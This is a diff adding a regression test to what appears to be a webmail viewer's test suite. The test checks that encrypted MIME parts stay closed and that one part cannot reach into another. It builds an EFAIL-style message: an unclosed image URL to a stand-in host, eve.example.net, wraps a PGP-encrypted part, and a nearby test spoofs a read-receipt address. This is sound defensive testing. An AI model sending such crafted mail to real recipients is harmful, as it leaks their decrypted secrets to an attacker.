@@ -236,3 +236,24 @@ def test_a_receipt_that_goes_elsewhere_comes_with_a_warning(visitor: Visitor, al
     alice.append(letter(extra="Disposition-Notification-To: spy@evil.example\r\n"))
     open_first(visitor, alice)
     assert "to go to spy@evil.example, which is not where it came from" in visitor.text
+
+
+def test_r25_what_is_encrypted_stays_closed_and_no_part_reaches_into_another(visitor: Visitor, alice: Person) -> None:
+    """An open quote of an address in one part, the secret in the next: each part is cleaned alone, and we open none."""
+    alice.append(
+        b"From: Eve <eve@example.net>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
+        b'--b\r\nContent-Type: text/html\r\n\r\n<p>Before</p><img src="http://eve.example.net/?\r\n'
+        b'--b\r\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=c\r\n\r\n'
+        b"--c\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
+        b"--c\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\nthe-secret\r\n--c--\r\n"
+        b'--b\r\nContent-Type: text/html\r\n\r\n">After<p>\r\n--b--\r\n'
+    )
+    visitor.sign_in(alice)
+    page = open_first(visitor, alice)
+    frame = re.search(r'<iframe[^>]* src="([^"]+)"', page)
+    assert frame
+    body = visitor.get(frame[1]).get_data(as_text=True)
+    assert "Before" in body
+    for text in (page, body):
+        assert "the-secret" not in text
+        assert "eve.example.net/?" not in text
